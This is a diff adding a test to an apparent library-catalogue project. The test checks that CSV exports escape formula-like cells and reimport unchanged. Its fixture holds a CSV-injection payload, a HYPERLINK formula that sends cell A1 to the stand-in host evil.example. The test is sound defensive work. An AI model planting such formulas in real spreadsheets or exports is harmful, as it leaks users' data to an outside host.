@@ -234,3 +234,22 @@ def test_dc_jsonld_and_marc21_exports(catalogue, tmp_path):
         records = list(MARCReader(handle))
     assert len(records) == 3
     assert "Қамар сұлу" in [record["245"]["a"].rstrip(" /:") for record in records]
+
+
+def test_csv_export_cells_do_not_run_as_formulas_and_reimport_unchanged(
+    institution, other_institution, tmp_path
+):
+    """A harvested title such as `=HYPERLINK(…)` is text in a spreadsheet, and the
+    export imported again gives back exactly the stored values."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    ResourceFactory(
+        institution=institution, title=formula, date_text="-500", notes="@home"
+    )
+    path = tmp_path / "export.csv"
+    run("export", format="csv", output=str(path))
+    (row,) = csv.DictReader(path.open(encoding="utf-8-sig"))
+    assert row["title"] == "'" + formula
+    assert (row["year"], row["notes"]) == ("'-500", "'@home")
+    run("import", str(path), format="csv", institution=other_institution.slug)
+    copy = Resource.objects.get(institution=other_institution)
+    assert (copy.title, copy.date_text, copy.notes) == (formula, "-500", "@home")
